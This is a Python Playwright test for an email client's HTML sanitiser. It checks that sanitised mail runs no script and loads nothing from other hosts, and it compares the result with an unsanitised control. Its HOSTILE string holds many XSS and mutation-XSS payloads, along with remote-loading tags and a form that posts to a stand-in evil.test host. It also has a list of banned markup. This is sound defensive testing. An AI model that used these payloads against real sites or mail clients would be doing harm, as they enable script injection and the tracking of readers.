"""Hostile HTML mail, shown after ``sanitize_html``, in Chromium: no script runs and no request
leaves for a remote image or stylesheet. The same HTML unsanitised is the control: it proves
the detectors (a flag set by script, requests to other hosts) do fire."""

from __future__ import annotations

from playwright.sync_api import Page, Route

from inboxlink.mail.body import html_to_text, sanitize_html

HOSTILE = """
<p>Hello <b>friend</b> <a href="https://example.test/ok">a fine link</a></p>
<script>window.__hit('script')</script>
<img src="https://evil.test/pixel.gif" onerror="window.__hit('onerror')">
<img src=x onerror=window.__hit('img')>
<svg onload="window.__hit('svg')"><script>window.__hit('svg-script')</script></svg>
<svg><animate onbegin="window.__hit('animate')" attributeName="x" dur="1s"/></svg>
<a href="javascript:window.__hit('js-url')" id="jslink">click</a>
<a href="data:text/html,<script>parent.__hit('data')</script>" id="datalink">data</a>
<iframe src="javascript:parent.__hit('iframe')"></iframe>
<iframe srcdoc="<script>parent.__hit('srcdoc')</script>"></iframe>
<object data="https://evil.test/object.swf"></object>
<embed src="https://evil.test/embed.swf">
<form action="https://evil.test/steal"><input name="q" autofocus onfocus="window.__hit('focus')">
<button>go</button></form>
<div style="background:url(https://evil.test/bg.png)">styled</div>
<style>@import url(https://evil.test/style.css);
body { background: url(https://evil.test/b.png) }</style>
<link rel="stylesheet" href="https://evil.test/link.css">
<math><mtext><table><mglyph><style><img src=x onerror="window.__hit('mxss')">
</style></mglyph></table></mtext></math>
<details open ontoggle="window.__hit('toggle')"><summary>x</summary></details>
<body onload="window.__hit('body')">
<meta http-equiv="refresh" content="0;url=https://evil.test/refresh">
<base href="https://evil.test/">
"""


def _show(page: Page, html: str) -> list[str]:
    """Load ``html`` as a page on a local origin; return the URLs asked of other hosts."""
    remote: list[str] = []

    def handle(route: Route) -> None:
        url = route.request.url
        if url.startswith("http://inboxlink.local/"):
            route.fulfill(status=200, content_type="text/html", body=html)
        else:
            remote.append(url)
            route.abort()

    page.route("**/*", handle)
    page.goto("http://inboxlink.local/message")
    page.wait_for_timeout(300)  # let onerror/onload/animations fire, if they can
    for link in ("#jslink", "#datalink"):
        if page.locator(link).count():
            page.locator(link).click(no_wait_after=True)
    page.wait_for_timeout(100)
    page.unroute("**/*")
    return remote


def test_sanitised_mail_runs_no_script_and_loads_nothing_remote(page: Page) -> None:
    dialogs: list[str] = []
    hits: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.expose_function("__hit", lambda name: hits.append(str(name)))  # survives navigation

    control = _show(page, HOSTILE)
    control_hits = list(hits)
    assert control_hits, "the detector must see the unsafe HTML run"
    assert any("evil.test" in url for url in control)

    page.goto("about:blank")
    hits.clear()
    clean = sanitize_html(HOSTILE)
    remote = _show(page, clean)
    print(
        f"[figures] xss: control ran={sorted(set(control_hits))} remote={len(control)}; "
        f"sanitised ran={hits} remote={remote} dialogs={dialogs}"
    )
    assert hits == []
    assert remote == []
    assert dialogs == []
    lowered = clean.lower()
    banned_markup = "<script onerror onload javascript: <svg <iframe <style <img <object <embed"
    for banned in (*banned_markup.split(), "<form", "<base", "<meta", "data:text"):
        assert banned not in lowered, banned
    assert 'href="https://example.test/ok"' in clean and "<b>friend</b>" in clean
    assert "Hello friend" in html_to_text(HOSTILE)
